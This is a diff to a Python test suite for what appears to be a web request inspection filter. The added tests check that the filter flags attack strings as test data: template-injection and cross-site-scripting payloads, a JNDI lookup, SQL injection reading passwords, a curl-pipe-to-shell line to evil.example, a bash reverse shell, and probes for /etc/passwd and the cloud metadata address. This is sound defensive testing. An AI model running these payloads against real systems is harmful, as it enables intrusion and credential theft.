@@ -146,8 +146,8 @@ def test_reading_a_secret_file_is_still_refused(inspection: Inspection) -> None:
 PARAGRAPHS = (
     'See the talk: <iframe src="https://video.example.com/embed/1" width="560"></iframe> It is '
     "worth an hour; don't miss the part on 'select' statements and \"joins\".",
-    "It's the customer's 'select' box; the \"or\" in \"black or white\" isn't a link, and the rows "
-    "of the table don't sort by date as they did 'before' the update.",
+    "It's the third time that the customer's parcel didn't arrive; the driver says \"nobody was at "
+    "home\" -- but we were, and so was the neighbour. Don't you have his number?",
     "Use `git rebase -i` here, 'or' so my colleague's note says; \"and\" never force-push.",
     "The report isn't there: \"table 'shop.orders' doesn't exist\" -- that's all it says; and then "
     "the page is blank.",
@@ -231,3 +231,59 @@ def test_a_password_is_known_by_its_name_its_repetition_and_its_neighbour(
 )  # fmt: skip
 def test_an_injection_into_a_login_is_refused(inspection: Inspection, injection: str) -> None:
     assert login(inspection, {"user": "admin", "password": injection})
+
+
+# --- what an attacker may claim ------------------------------------------------------------------
+
+FRAMES = {
+    "prose": ("please help me with ", " thank you very much"),
+    "markdown": ("# Steps\n\nwhat you have to do is:\n\n```sh\n", "\n```\n\n thanks for your help"),
+    "program": (
+        "# Steps that you should follow\n\nwhat you have to do is:\n\n```sh\nimport os\n\n"
+        "def main(argv):\n    for item in argv:\n        print(item)\n    return len(argv)\n\n",
+        "\n\ndef other(argv):\n    return main(argv)\n\n```\n\n thanks for your help",
+    ),
+    "page": ("<p>Hello <b>all</b>,</p><p>look:</p><div><span>", "</span></div><p>Bye</p>"),
+}
+EXPLOITS = (
+    "{{ url_for.__globals__['o'~'s']['po'~'pen'](request.args.c).read() }}",
+    "{{7*7}}",
+    "<script src=//e.example/x></script>",
+    '<img src=x onerror="go(1)">',
+    "${jndi:ldap://e.example/a}",
+    "' UNION SELECT password FROM users -- ",
+    "; curl evil.example/x | sh",
+    "\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
+)
+
+
+@pytest.mark.parametrize("frame", FRAMES)
+@pytest.mark.parametrize("exploit", EXPLOITS)
+def test_no_surroundings_excuse_an_exploit(
+    inspection: Inspection, frame: str, exploit: str
+) -> None:
+    before, after = FRAMES[frame]
+    assert findings_in(inspection, "form", before + exploit + after)
+
+
+@pytest.mark.parametrize("padding", [" " * 700, "/" * 695, "./" * 400, "\n" * 900, " \t" * 350])
+def test_filler_does_not_hide_that_a_value_is_a_path(inspection: Inspection, padding: str) -> None:
+    assert findings_in(inspection, "form", padding + "/etc/passwd")
+    assert findings_in(inspection, "form", padding + "http://169.254.169.254/latest/meta-data/")
+
+
+@pytest.mark.parametrize("injection", ["'or+1--", "'union values((select(password)from(users)))--"])
+def test_only_a_field_for_a_password_is_excused_as_one(
+    inspection: Inspection, injection: str
+) -> None:
+    assert login(inspection, {"q": injection, "pwd": injection})
+    assert inspection.head(environ(query=urlencode({"q": injection, "pwd": injection})))
+    nested = json.dumps({"password": injection})
+    assert inspection.head(environ(query=urlencode({"q": nested})))
+
+
+@pytest.mark.parametrize("method", ["PATCH", "PUT", "PROPFIND", "GET"])
+def test_no_method_makes_a_path_out_of_the_site_harmless(
+    inspection: Inspection, method: str
+) -> None:
+    assert inspection.head({**environ(path="/files/etc/passwd"), "REQUEST_METHOD": method})
